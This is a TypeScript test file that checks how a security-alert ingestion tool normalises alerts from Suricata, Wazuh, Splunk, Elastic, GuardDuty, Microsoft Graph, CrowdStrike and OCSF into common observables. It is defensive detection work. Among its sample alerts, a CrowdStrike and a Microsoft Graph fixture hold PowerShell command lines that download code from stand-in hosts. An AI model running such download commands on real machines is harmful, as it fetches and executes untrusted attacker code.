import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { isSignificantUnder } from '../../app/ingest/correlation-rules.js';
import { IngestSettings } from '../../app/ingest/ingest-settings.js';
import { NormalizedAlertSchema } from '../../domain/alerts/alert.js';
import { mapPayload } from './mapper-registry.js';

const SAMPLES = '/work/shared/samples';
const json = (path: string): Record<string, unknown> =>
  JSON.parse(readFileSync(`${SAMPLES}/${path}`, 'utf8')) as Record<string, unknown>;
const ndjson = (path: string): Record<string, unknown>[] =>
  readFileSync(`${SAMPLES}/${path}`, 'utf8')
    .split('\n')
    .filter((l) => l.trim() !== '')
    .map((l) => JSON.parse(l) as Record<string, unknown>);
const NOW = Date.UTC(2026, 0, 1);
const map = (p: unknown, mapper?: string) => {
  const r = mapPayload(p, { now: NOW, mapper });
  // Every mapper's output satisfies the published schema, and keeps the raw event as it was.
  expect(NormalizedAlertSchema.parse(r.alert)).toBeTruthy();
  expect(r.alert.raw).toBe(p);
  return r;
};
const obs = (r: ReturnType<typeof map>) => r.alert.observables.map((o) => `${o.role}:${o.type}:${o.value}`);

describe('real samples', () => {
  it('Suricata EVE alerts', () => {
    const lines = ndjson('suricata/oisf_suricata_pr13999_logs_eve_alert_lines.ndjson');
    for (const line of lines) expect(map(line).mapper).toBe('suricata');
    const r = map(lines[0]);
    expect(r.alert).toMatchObject({
      title: 'SURICATA HTTP invalid response chunk len',
      severity: 'medium',
      severityOriginal: '3',
      time: Date.parse('2025-10-09T11:15:05.897792Z'),
      origin: { product: 'Suricata', ruleId: '1:2221004' },
    });
    expect(obs(r)).toEqual(
      expect.arrayContaining([
        'source:ipv4:192.168.65.7',
        'destination:ipv4:192.168.65.1',
        'destination:domain:api.moby.localhost',
      ]),
    );
  });

  it('Wazuh alerts', () => {
    for (const line of ndjson('wazuh/wazuh_alerts_extracted_from_wazuh-qa.ndjson')) {
      const r = map(line);
      expect(r.mapper).toBe('wazuh');
      expect(r.alert.sourceEventId).toBe(line.id);
    }
    const r = map(ndjson('wazuh/wazuh_alerts_extracted_from_wazuh-qa.ndjson')[0]);
    expect(r.alert).toMatchObject({
      severity: 'high',
      severityOriginal: '10',
      techniques: ['T1110'],
      origin: { ruleId: '5712' },
    });
    expect(obs(r)).toEqual(expect.arrayContaining(['source:ipv4:172.17.1.1', 'source:user:paco']));
  });

  it('Splunk webhook alert action', () => {
    const r = map(json('splunk/splunk_webhook_alert_payload_docs_example.json'));
    expect(r.mapper).toBe('splunk');
    expect(r.alert).toMatchObject({
      sourceEventId: 'scheduler_admin_search_W2_at_14232356_132',
      category: 'mongod',
    });
  });

  it('OCSF 2004 (Okta) and 2001 (Falco)', () => {
    const okta = map(json('ocsf/okta_detection_finding_2004.ocsf.json'));
    expect(okta.mapper).toBe('ocsf');
    expect(okta.alert).toMatchObject({
      title: 'Login Failures',
      severity: 'medium',
      severityOriginal: 'Unknown',
      time: 1_723_564_700_000,
      origin: { product: 'Okta System Log', vendor: 'Okta' },
    });
    expect(obs(okta)).toContain('source:ipv4:10.0.0.1');
    const falco = map(json('ocsf/falco_security_finding_2001.ocsf.json'));
    expect(falco.alert).toMatchObject({
      title: 'Linux Kernel Module Injection Detected',
      origin: { vendor: 'Falcosecurity' },
    });
  });

  it('Microsoft Graph security alert v2', () => {
    const r = map(json('cloud_edr/msgraph_security_alert_v2_docs_example_update_response.json'));
    expect(r.mapper).toBe('msgraph');
    expect(r.alert).toMatchObject({
      severity: 'low',
      category: 'DefenseEvasion',
      techniques: ['T1564.001'],
      sourceEventId: 'da637551227677560813_-961444813',
      time: Date.parse('2021-04-26T07:45:50.116Z'),
    });
  });
});

describe('documented shapes', () => {
  it('Elastic Security alert, flattened kibana.alert.* keys', () => {
    const doc = {
      '@timestamp': '2024-05-01T10:00:00.000Z',
      'kibana.alert.uuid': 'f3a1',
      'kibana.alert.rule.name': 'Potential SSH Brute Force',
      'kibana.alert.rule.rule_id': 'a5f0d057',
      'kibana.alert.severity': 'high',
      'kibana.alert.risk_score': 73,
      'kibana.alert.reason': 'authentication event with source 45.33.32.156 on web-01',
      'kibana.alert.rule.threat': [{ technique: [{ id: 'T1110', subtechnique: [{ id: 'T1110.001' }] }] }],
      source: { ip: '45.33.32.156' },
      host: { name: 'web-01', ip: ['10.0.0.5'] },
      user: { name: 'root' },
    };
    const r = map(doc);
    expect(r.mapper).toBe('elastic');
    expect(r.alert).toMatchObject({
      severity: 'high',
      sourceEventId: 'f3a1',
      techniques: ['T1110', 'T1110.001'],
      origin: { ruleId: 'a5f0d057' },
    });
    expect(obs(r)).toEqual([
      'source:ipv4:45.33.32.156',
      'affected:hostname:web-01',
      'affected:ipv4:10.0.0.5',
      'affected:user:root',
    ]);
  });

  it('Elastic Security 7.x signal (legacy signal.* fields)', () => {
    const r = map({
      '@timestamp': '2021-03-02T09:15:00.000Z',
      signal: {
        original_time: '2021-03-02T09:10:41.000Z',
        reason: 'process event created low alert Unusual Parent Process on web-01',
        rule: {
          id: '6f1a2b3c-uuid',
          rule_id: 'a0eb3d4f-rule',
          name: 'Unusual Parent Process',
          description: 'Identifies an unusual parent process',
          risk_score: 21,
          threat: [{ technique: [{ id: 'T1055' }] }],
        },
      },
      host: { name: 'web-01' },
    });
    expect(r.mapper).toBe('elastic');
    expect(r.alert).toMatchObject({
      // The source event's time, not when the rule ran (@timestamp).
      time: Date.parse('2021-03-02T09:10:41.000Z'),
      title: 'Unusual Parent Process',
      description: 'process event created low alert Unusual Parent Process on web-01',
      severity: 'low',
      severityOriginal: '21',
      techniques: ['T1055'],
      origin: { ruleId: 'a0eb3d4f-rule' },
    });
  });

  it('Elastic Security alert, nested objects', () => {
    const r = map({
      '@timestamp': '2024-05-01T10:00:00Z',
      kibana: { alert: { rule: { name: 'Nested rule' }, risk_score: 95 } },
    });
    expect(r.alert).toMatchObject({ title: 'Nested rule', severity: 'critical' });
  });

  it('Splunk ES notable event', () => {
    const r = map({
      _time: '1714557600',
      event_id: '5A1D-notable-1',
      rule_id: '5A1D-notable-1',
      rule_name: 'Excessive Failed Logins',
      rule_title: 'Excessive failed logins from 45.33.32.156',
      search_name: 'Access - Excessive Failed Logins - Rule',
      security_domain: 'access',
      urgency: 'critical',
      src: '45.33.32.156',
      dest: 'dc01.corp.example.com',
      user: 'alice',
    });
    expect(r.mapper).toBe('splunk_es');
    expect(r.alert).toMatchObject({
      severity: 'critical',
      time: 1_714_557_600_000,
      category: 'access',
      sourceEventId: '5A1D-notable-1',
      origin: { ruleId: 'Access - Excessive Failed Logins - Rule' },
    });
    expect(obs(r)).toEqual([
      'source:ipv4:45.33.32.156',
      'destination:hostname:dc01.corp.example.com',
      'affected:user:alice',
    ]);
  });

  const guardduty = {
    schemaVersion: '2.0',
    accountId: '123456789012',
    region: 'us-east-1',
    id: '16afba5c5c43e07c9e3e5e2e544e95df',
    arn: 'arn:aws:guardduty:us-east-1:123456789012:detector/x/finding/16afba5c5c43e07c9e3e5e2e544e95df',
    type: 'UnauthorizedAccess:EC2/SSHBruteForce',
    resource: {
      resourceType: 'Instance',
      instanceDetails: {
        instanceId: 'i-99999999',
        networkInterfaces: [
          {
            privateIpAddress: '10.0.0.1',
            publicIp: '198.51.100.1',
            privateDnsName: 'ip-10-0-0-1.ec2.internal',
          },
        ],
      },
    },
    service: {
      serviceName: 'guardduty',
      action: {
        actionType: 'NETWORK_CONNECTION',
        networkConnectionAction: {
          connectionDirection: 'INBOUND',
          remoteIpDetails: { ipAddressV4: '45.33.32.156' },
        },
      },
      eventFirstSeen: '2024-05-01T09:00:00.000Z',
    },
    severity: 5,
    createdAt: '2024-05-01T09:05:00.000Z',
    updatedAt: '2024-05-01T09:10:00.000Z',
    title: '45.33.32.156 is performing SSH brute force attacks against i-99999999.',
    description: '45.33.32.156 is performing SSH brute force attacks against i-99999999.',
  };

  it('AWS GuardDuty finding, raw and via EventBridge', () => {
    const raw = map(guardduty);
    expect(raw.mapper).toBe('guardduty');
    expect(raw.alert).toMatchObject({
      severity: 'medium',
      severityOriginal: '5',
      category: 'UnauthorizedAccess',
      origin: { vendor: 'AWS', ruleId: 'UnauthorizedAccess:EC2/SSHBruteForce' },
      time: Date.parse('2024-05-01T09:00:00Z'),
    });
    expect(obs(raw)).toEqual(
      expect.arrayContaining([
        'source:ipv4:45.33.32.156',
        'affected:hostname:i-99999999',
        'affected:ipv4:10.0.0.1',
      ]),
    );
    const event = {
      version: '0',
      id: 'e1',
      'detail-type': 'GuardDuty Finding',
      source: 'aws.guardduty',
      account: '123456789012',
      time: '2024-05-01T09:10:00Z',
      region: 'us-east-1',
      resources: [],
      detail: guardduty,
    };
    const wrapped = map(event);
    expect(wrapped.mapper).toBe('guardduty');
    expect(wrapped.alert.sourceEventId).toBe(raw.alert.sourceEventId);
    expect(wrapped.alert.raw).toBe(event);
  });

  it('Microsoft Graph alert evidence', () => {
    const r = map({
      '@odata.type': '#microsoft.graph.security.alert',
      id: 'da1',
      title: 'Suspicious PowerShell',
      severity: 'high',
      serviceSource: 'microsoftDefenderForEndpoint',
      createdDateTime: '2024-05-01T10:00:00Z',
      evidence: [
        {
          '@odata.type': '#microsoft.graph.security.deviceEvidence',
          deviceDnsName: 'ws-7.corp.example.com',
          ipInterfaces: ['10.1.1.7'],
        },
        {
          '@odata.type': '#microsoft.graph.security.userEvidence',
          userAccount: { accountName: 'bob', userPrincipalName: 'bob@corp.example.com' },
        },
        {
          '@odata.type': '#microsoft.graph.security.fileEvidence',
          fileDetails: {
            fileName: 'x.ps1',
            filePath: 'C:\\Temp',
            sha256: 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
          },
        },
        { '@odata.type': '#microsoft.graph.security.ipEvidence', ipAddress: '45.33.32.156' },
      ],
    });
    expect(obs(r)).toEqual([
      'affected:hostname:ws-7.corp.example.com',
      'affected:ipv4:10.1.1.7',
      'affected:user:bob@corp.example.com',
      'affected:sha256:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
      'affected:file_path:C:\\Temp\\x.ps1',
      'related:ipv4:45.33.32.156',
    ]);
  });

  it('CrowdStrike Falcon detection (Detects API) and DetectionSummaryEvent (stream)', () => {
    const detect = map({
      detection_id: 'ldt:abc:123',
      created_timestamp: '2024-05-01T10:00:00Z',
      max_severity: 70,
      max_severity_displayname: 'High',
      device: { device_id: 'abc', hostname: 'LAPTOP-1', local_ip: '10.2.2.2', external_ip: '81.2.69.160' },
      behaviors: [
        {
          behavior_id: '10197',
          display_name: 'CredentialDumping',
          tactic: 'Credential Access',
          technique_id: 'T1003',
          user_name: 'alice',
          filename: 'mimikatz.exe',
          filepath: '\\Device\\HarddiskVolume2\\Temp\\mimikatz.exe',
          sha256: 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
        },
      ],
    });
    expect(detect.mapper).toBe('crowdstrike');
    expect(detect.alert).toMatchObject({
      severity: 'high',
      severityOriginal: 'High',
      techniques: ['T1003'],
      sourceEventId: 'ldt:abc:123',
      title: 'CredentialDumping',
    });
    expect(obs(detect)).toEqual(
      expect.arrayContaining([
        'affected:hostname:laptop-1',
        'affected:ipv4:81.2.69.160',
        'affected:process:mimikatz.exe',
      ]),
    );
    const stream = map({
      metadata: { eventType: 'DetectionSummaryEvent', eventCreationTime: 1714557600000, offset: 5 },
      event: {
        DetectId: 'ldt:abc:999',
        DetectName: 'Malicious Document',
        Severity: 4,
        SeverityName: 'High',
        ComputerName: 'LAPTOP-2',
        UserName: 'bob',
        SHA256String: 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
        CommandLine: 'powershell -c iwr hxxp://evil[.]example[.]com/a',
      },
    });
    expect(stream.alert).toMatchObject({
      severity: 'high',
      time: 1_714_557_600_000,
      sourceEventId: 'ldt:abc:999',
    });
    expect(obs(stream)).toEqual(expect.arrayContaining(['related:url:http://evil.example.com/a']));
  });
});

describe('generic and fallback mappers', () => {
  it('maps by configured field paths', () => {
    const r = mapPayload(
      {
        ev: { name: 'Custom detection', lvl: 12, at: 1714557600 },
        net: { from: '45.33.32.156' },
        text: 'see evil.example.com',
      },
      {
        now: NOW,
        mapper: 'generic',
        mapperConfig: {
          title: 'ev.name',
          severity: 'ev.lvl',
          severityScale: 'wazuh',
          time: 'ev.at',
          product: 'Home-grown',
          observables: [{ path: 'net.from', type: 'ipv4', role: 'source' }],
          extractFrom: ['text'],
        },
      },
    );
    expect(r.alert).toMatchObject({
      title: 'Custom detection',
      severity: 'high',
      time: 1_714_557_600_000,
      origin: { product: 'Home-grown' },
    });
    expect(r.alert.observables.map((o) => o.value)).toEqual(['45.33.32.156', 'evil.example.com']);
  });

  it('names the field at fault', () => {
    expect(() =>
      mapPayload({ x: 1 }, { now: NOW, mapper: 'generic', mapperConfig: { title: 'ev.name' } }),
    ).toThrow(/title field is missing/);
    expect(() =>
      mapPayload({ x: 1 }, { now: NOW, mapper: 'generic', mapperConfig: { severityScale: 'nope' } }),
    ).toThrow(/generic mapper config/);
    expect(() => mapPayload({ event_type: 'alert', alert: { signature_id: 1 } }, { now: NOW })).toThrow(
      /alert\.signature/,
    );
    expect(() => mapPayload({ x: 1 }, { now: NOW })).toThrow(/no mapper recognises/);
    expect(() => mapPayload('text', { now: NOW })).toThrow(/JSON object/);
    expect(() => mapPayload({ title: 'x' }, { now: NOW, mapper: 'nope' })).toThrow(/no mapper named "nope"/);
    // A source named for one tool refuses another tool's payload instead of failing inside the mapper.
    expect(() => mapPayload({ sid: 'scheduler_1', title: 'x' }, { now: NOW, mapper: 'splunk' })).toThrow(
      /not a Splunk webhook alert action payload/,
    );
  });

  it('falls back to common field names for home-grown JSON', () => {
    const r = map({ title: 'Disk wiper seen', severity: 'critical', src_ip: '45.33.32.156', id: 'z1' });
    expect(r.mapper).toBe('fallback');
    expect(r.alert).toMatchObject({ severity: 'critical', sourceEventId: 'z1' });
  });
});

describe('reviewed vendor fields', () => {
  const eve = {
    timestamp: '2025-10-09T11:15:05.897792+0000',
    flow_id: 1,
    event_type: 'alert',
    src_ip: '10.0.0.5',
    dest_ip: '8.8.8.8',
    alert: { gid: 1, signature_id: 2027863, signature: 'ET INFO DNS Query for .xyz', severity: 2 },
  };

  it('Suricata: the sensor name in `host` is no observable, so one sensor does not group its alerts', () => {
    const significant = isSignificantUnder(IngestSettings.parse({}).correlation);
    const [a, b] = [
      { ...eve, host: 'ids-dmz-01', src_ip: '45.33.32.156', dest_ip: '10.0.0.5' },
      { ...eve, flow_id: 2, host: 'ids-dmz-01', src_ip: '10.0.0.77', dest_ip: '203.0.113.9' },
    ].map((p) =>
      map(p)
        .alert.observables.filter(significant)
        .map((o) => `${o.type}:${o.value}`),
    );
    expect(obs(map({ ...eve, host: 'ids-dmz-01' })).some((o) => o.includes('ids-dmz-01'))).toBe(false);
    expect(a?.filter((o) => b?.includes(o))).toEqual([]);
  });

  it("Suricata: a rule's target keyword names attacker and victim, whatever the packet's direction", () => {
    // The victim's reply: the flow runs from the victim, but alert.source is the attacker.
    const reply = {
      ...eve,
      src_ip: '10.0.0.5',
      dest_ip: '45.33.32.156',
      alert: {
        ...eve.alert,
        source: { ip: '45.33.32.156', port: 4444 },
        target: { ip: '10.0.0.5', port: 445 },
      },
    };
    expect(obs(map(reply))).toEqual(
      expect.arrayContaining(['source:ipv4:45.33.32.156', 'affected:ipv4:10.0.0.5']),
    );
    expect(obs(map(reply))).not.toContain('source:ipv4:10.0.0.5');
    // Without the keyword, the flow's direction.
    expect(obs(map(eve))).toEqual(
      expect.arrayContaining(['source:ipv4:10.0.0.5', 'destination:ipv4:8.8.8.8']),
    );
  });

  it('Suricata: DNS names of 8.x and 7.x records, and URLs from every request-target form', () => {
    const dns = (d: unknown) => obs(map({ ...eve, dns: d })).filter((o) => o.includes(':domain:'));
    expect(dns({ version: 3, type: 'request', queries: [{ rrname: 'evil-c2.xyz', rrtype: 'A' }] })).toEqual([
      'destination:domain:evil-c2.xyz',
    ]);
    expect(dns({ query: [{ type: 'query', rrname: 'evil-c2.xyz' }] })).toEqual([
      'destination:domain:evil-c2.xyz',
    ]);
    expect(dns({ type: 'query', rrname: 'evil-c2.xyz' })).toEqual(['destination:domain:evil-c2.xyz']);
    const urls = (http: Record<string, unknown>) =>
      obs(map({ ...eve, http: { hostname: 'evil.example.com', ...http } })).filter((o) =>
        o.includes(':url:'),
      );
    expect(urls({ url: 'http://evil.example.com/payload.bin' })).toEqual([
      'destination:url:http://evil.example.com/payload.bin',
    ]);
    expect(urls({ url: 'evil.example.com:443', http_method: 'CONNECT' })).toEqual([]);
    expect(urls({ url: '/payload.bin', http_port: 8080 })).toEqual([
      'destination:url:http://evil.example.com:8080/payload.bin',
    ]);
    expect(urls({ url: '/payload.bin', http_port: 80 })).toEqual([
      'destination:url:http://evil.example.com/payload.bin',
    ]);
  });

  it('Wazuh: for agent 000 (the manager collecting logs) the host is the one the log names', () => {
    const alert = {
      timestamp: '2024-03-01T10:00:00.000+0000',
      rule: { level: 5, description: 'sshd: authentication failed.', id: '5716', groups: ['sshd'] },
      agent: { id: '000', name: 'wazuh-manager' },
      manager: { name: 'wazuh-manager' },
      id: '1709287200.1',
      predecoder: { program_name: 'sshd', hostname: 'web-07' },
      data: { srcip: '198.51.100.23' },
    };
    const hosts = (p: unknown) => obs(map(p)).filter((o) => o.includes(':hostname:'));
    expect(hosts(alert)).toEqual(['affected:hostname:web-07']);
    // Nor is the manager's address, which the alert may carry as agent.ip.
    expect(obs(map({ ...alert, agent: { ...alert.agent, ip: '10.9.9.9' } }))).not.toContain(
      'affected:ipv4:10.9.9.9',
    );
    expect(obs(map({ ...alert, agent: { id: '001', name: 'db-01', ip: '10.9.9.9' } }))).toContain(
      'affected:ipv4:10.9.9.9',
    );
    // An agent's own alerts keep the agent's name; the manager's own alerts (no log host) keep its name.
    expect(hosts({ ...alert, agent: { id: '001', name: 'db-01' } })).toEqual(['affected:hostname:db-01']);
    expect(hosts({ ...alert, predecoder: { program_name: 'ossec' } })).toEqual([
      'affected:hostname:wazuh-manager',
    ]);
  });

  it('Microsoft Graph: evidence roles give observable roles; file and process fields are read', () => {
    const r = map({
      '@odata.type': '#microsoft.graph.security.alert',
      id: 'da2',
      title: 'Suspected brute-force attack',
      severity: 'high',
      serviceSource: 'microsoftDefenderForIdentity',
      createdDateTime: '2021-04-27T12:19:27.7211305Z',
      evidence: [
        {
          '@odata.type': '#microsoft.graph.security.ipEvidence',
          roles: ['attacker', 'source'],
          ipAddress: '45.33.32.156',
        },
        {
          '@odata.type': '#microsoft.graph.security.userEvidence',
          roles: ['compromised'],
          userAccount: { accountName: 'bob', userPrincipalName: 'bob@contoso.com' },
        },
        {
          '@odata.type': '#microsoft.graph.security.urlEvidence',
          roles: ['commandAndControl'],
          url: 'https://c2.example.net/b',
        },
        {
          '@odata.type': '#microsoft.graph.security.ipEvidence',
          roles: ['contextual'],
          ipAddress: '81.2.69.160',
        },
        {
          '@odata.type': '#microsoft.graph.security.fileEvidence',
          roles: [],
          fileDetails: {
            md5: '44d88612fea8a8f36de82e1278abb02f',
            fileName: 'eicar.com',
            filePath: 'C:\\Users\\bob',
          },
        },
        {
          '@odata.type': '#microsoft.graph.security.processEvidence',
          roles: [],
          processCommandLine: 'powershell -c iwr https://dl.example.net/a.ps1',
          imageFile: {
            fileName: 'powershell.exe',
            filePath: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0',
            md5: 'd41d8cd98f00b204e9800998ecf8427e',
          },
          userAccount: { accountName: 'alice', domainName: 'CORP' },
        },
      ],
    });
    expect(obs(r)).toEqual([
      'source:ipv4:45.33.32.156',
      'affected:user:bob@contoso.com',
      'destination:url:https://c2.example.net/b',
      'related:ipv4:81.2.69.160',
      'affected:md5:44d88612fea8a8f36de82e1278abb02f',
      'affected:file_path:C:\\Users\\bob\\eicar.com',
      'affected:process:powershell.exe',
      'affected:md5:d41d8cd98f00b204e9800998ecf8427e',
      'affected:file_path:C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      'affected:user:alice',
      'related:url:https://dl.example.net/a.ps1',
      'related:domain:dl.example.net',
    ]);
  });

  it('GuardDuty: IPv6 remote addresses of every action that has remoteIpDetails', () => {
    const finding = (action: Record<string, unknown>) =>
      map({
        schemaVersion: '2.0',
        id: 'f1',
        arn: 'arn:aws:guardduty:us-east-1:123456789012:detector/d1/finding/f1',
        type: 'UnauthorizedAccess:IAMUser/MaliciousIPCaller',
        resource: { resourceType: 'AccessKey' },
        service: { serviceName: 'guardduty', action },
        severity: 5,
        updatedAt: '2024-05-01T09:10:00.000Z',
      });
    const v6 = { ipAddressV6: '2a01:4f8:c17:1234::1' };
    const actions = [
      { networkConnectionAction: { connectionDirection: 'INBOUND', remoteIpDetails: v6 } },
      { awsApiCallAction: { api: 'ListBuckets', remoteIpDetails: v6 } },
      { kubernetesApiCallAction: { requestUri: '/api', remoteIpDetails: v6 } },
      { rdsLoginAttemptAction: { remoteIpDetails: v6 } },
      { portProbeAction: { portProbeDetails: [{ localPortDetails: { port: 22 }, remoteIpDetails: v6 }] } },
    ];
    for (const action of actions) expect(obs(finding(action))).toEqual(['source:ipv6:2a01:4f8:c17:1234::1']);
    expect(
      obs(finding({ networkConnectionAction: { connectionDirection: 'OUTBOUND', remoteIpDetails: v6 } })),
    ).toEqual(['destination:ipv6:2a01:4f8:c17:1234::1']);
  });

  it('OCSF: analytic and attacks at the top level of 2001, and sub-techniques in every class', () => {
    const sf = map({
      class_uid: 2001,
      category_uid: 2,
      severity_id: 4,
      time: 1672758699558,
      metadata: { version: '1.0.0', product: { name: 'Falco', vendor_name: 'Falcosecurity' } },
      finding: { uid: 'f-1', title: 'Linux Kernel Module Injection Detected' },
      analytic: { uid: 'rule-42', name: 'Kernel module injection', type_id: 1 },
      attacks: [
        { technique: { uid: 'T1547' }, sub_technique: { uid: 'T1547.006' }, tactics: [{ uid: 'TA0003' }] },
      ],
    });
    expect(sf.alert).toMatchObject({
      origin: { ruleId: 'rule-42', ruleName: 'Kernel module injection' },
      techniques: ['T1547', 'T1547.006'],
    });
    const df = map({
      class_uid: 2004,
      severity_id: 4,
      time: 1723564700000,
      metadata: { version: '1.3.0', product: { name: 'X', vendor_name: 'Y' } },
      finding_info: {
        uid: 'd-1',
        title: 'Spearphishing attachment',
        analytic: { uid: 'a-1', name: 'phish' },
        attacks: [{ technique: { uid: 'T1566' }, sub_technique: { uid: 'T1566.001' } }],
      },
    });
    expect(df.alert).toMatchObject({ origin: { ruleId: 'a-1' }, techniques: ['T1566', 'T1566.001'] });
  });

  it('an IPv4-mapped IPv6 source is the same observable as that IPv4 address', () => {
    const alert = (ip: string) =>
      obs(
        map({
          '@timestamp': '2024-05-01T10:00:00Z',
          'kibana.alert.rule.name': 'Brute force',
          source: { ip },
        }),
      );
    expect(alert('::ffff:45.33.32.156')).toEqual(alert('45.33.32.156'));
    expect(alert('::ffff:2d21:209c')).toEqual(['source:ipv4:45.33.32.156']);
  });
});
